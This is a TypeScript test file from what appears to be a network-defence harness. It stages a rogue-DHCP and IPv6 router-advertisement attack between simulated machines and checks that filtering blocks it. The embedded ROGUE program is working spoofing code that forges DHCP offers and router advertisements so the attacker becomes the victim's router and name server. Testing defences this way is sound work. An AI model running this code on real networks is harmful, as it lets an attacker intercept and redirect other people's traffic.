// Drill: a machine answers when its neighbour asks for an address, and announces itself as the way to everywhere.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Attempt, Drill } from '../drill.ts';
import { MALLORY, type Guest } from '../network/guest.ts';
import { openBridge, openWalls, type Neighbourhood } from '../network/neighbourhood.ts';
import { program } from '../network/programs.ts';

const SECONDS = 1.5;
const BUSYBOX = '/bin/busybox';

/** A server of DHCP (RFC 2131) that offers itself as router and name server, and router advertisements (RFC 4861, 4.2) beside it. */
const ROGUE = program(`
own, end = ARG['mallory'], time.monotonic() + ARG['seconds']
advertisement = struct.pack('!BBHBBHII', 134, 0, 0, 64, 0, 1800, 0, 0) + b'\\1\\1' + mac(own['mac'])
announce = frame(ALL_NODES, own['mac'], 0x86dd, icmp6('fe80::bad', 'ff02::1', advertisement))
def option(number, data): return bytes([number, len(data)]) + data
def reply(kind, asked):
    fixed = struct.pack('!BBBBIHHI', 2, 1, 6, 0, struct.unpack('!I', asked[4:8])[0], 0, 0x8000, 0)
    fixed += ip('10.20.0.66') + ip(own['ipv4']) + bytes(4) + asked[28:44] + bytes(192) + b'\\x63\\x82\\x53\\x63'
    us = ip(own['ipv4'])
    options = [(53, bytes([kind])), (54, us), (51, struct.pack('!I', 3600)), (1, ip('255.255.255.0')), (3, us), (6, us)]
    payload = fixed + b''.join(option(*each) for each in options) + b'\\xff'
    return frame(EVERYBODY, own['mac'], 0x0800, udp4(own['ipv4'], '255.255.255.255', (67, 68), payload))
# An offer that nobody has asked for, too: who waits for one may take it.
blind = reply(2, bytes(240))
link, asked, next_word = card(), 0, 0
ready()
while time.monotonic() < end:
    if time.monotonic() > next_word:
        link.send(announce); link.send(blind); next_word = time.monotonic() + 0.2
    if not select.select([link], [], [], 0.05)[0]: continue
    data, (_, _, kind, _, _) = link.recvfrom(65536)
    if kind == socket.PACKET_OUTGOING or data[12:14] != b'\\x08\\x00' or data[23] != 17 or data[36:38] != b'\\0\\x43': continue
    message = data[42:]
    at = message.find(b'\\x35\\x01', 240)
    if at > 0: asked += 1; link.send(reply({1: 2, 3: 5}.get(message[at + 2], 2), message))
answer(asked)
`);

/** What udhcpc calls with what it has been given. */
const TAKE_LEASE = '#!/bin/sh\n[ "$1" = bound ] && echo "address $ip router $router dns $dns"\nexit 0\n';

export const rogueDhcp: Drill = {
  name: 'rogue-dhcp',
  title: 'A machine tells its neighbours that the way to everywhere leads through it',
  adversaries: ['A1'],
  story:
    'A machine that starts asks everybody for an address, and believes who answers first. The attacker answers: take this address, I am your router and your name server. For IPv6 she need not even be asked: she announces herself as a router, and all take it.',
  needsVictim: 'no',
  mustBeTrue: 'The attacker has root in a machine of her own on the same host and network.',
  stoppedBy:
    'Broadcasts end at the router: nobody else hears the question. What only servers and routers say is dropped on every cable, and counted.',

  async without({ directory, step }) {
    await using here = await openBridge(directory);
    step('a machine on the bridge asks for its address');
    return await askForAddress(here, directory);
  },

  async with({ directory, step }) {
    await using here = await openWalls(directory);
    step('the same behind walls');
    const attempts = await askForAddress(here, directory);
    if ((await here.counted('rogue')) === 0) throw new Error('no word of the false router was counted');
    return attempts;
  },
};

async function askForAddress({ alice, mallory }: Neighbourhood, directory: string): Promise<Attempt[]> {
  const script = join(directory, 'take-lease');
  writeFileSync(script, TAKE_LEASE, { mode: 0o755 });
  const rogue = await mallory.start(ROGUE, { mallory: MALLORY, seconds: SECONDS });
  const lease = (
    await alice.shell(BUSYBOX, 'udhcpc', '-i', 'eth0', '-n', '-q', '-f', '-t', '2', '-T', '1', '-A', '1', '-s', script)
  ).trim();
  await rogue.answer;
  const [leased, routed] = [lease.includes(`router ${MALLORY.ipv4}`), await routeOf(alice)];
  return [
    {
      what: 'become the router and name server of whoever asks for an address',
      succeeded: leased,
      seen: leased ? lease : 'no answer of hers was taken',
    },
    {
      what: 'become the router of all by an advertisement',
      succeeded: routed.includes('fe80::bad'),
      seen: routed === '' ? 'no router was learned' : routed,
    },
  ];
}

/** The default route that the kernel has learned by itself. */
async function routeOf(guest: Guest): Promise<string> {
  return (await guest.shell('/usr/sbin/ip', '-6', 'route', 'show', 'default', 'proto', 'ra')).trim();
}
